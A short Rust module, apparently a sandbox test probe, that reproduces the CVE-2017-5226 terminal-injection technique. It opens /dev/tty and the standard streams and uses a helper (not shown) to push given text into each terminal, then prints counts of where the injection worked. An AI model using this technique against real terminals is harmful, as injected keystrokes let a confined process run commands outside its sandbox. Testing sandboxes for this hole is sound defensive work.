//! Typing for somebody else (CVE-2017-5226).

use std::fs::OpenOptions;
use std::os::fd::AsFd;

use crate::raw;

/// Types `text` on the terminal of this session, and on those of its streams that are terminals.
pub(crate) fn run(text: &str) {
    let mut typed = 0;
    let terminal = OpenOptions::new().read(true).write(true).open("/dev/tty");
    println!("tty={}", u8::from(terminal.is_ok()));
    if let Ok(terminal) = &terminal {
        typed += raw::type_on(terminal.as_fd(), text);
    }
    for stream in [std::io::stdin().as_fd(), std::io::stdout().as_fd(), std::io::stderr().as_fd()] {
        typed += raw::type_on(stream, text);
    }
    println!("typed={typed}");
}
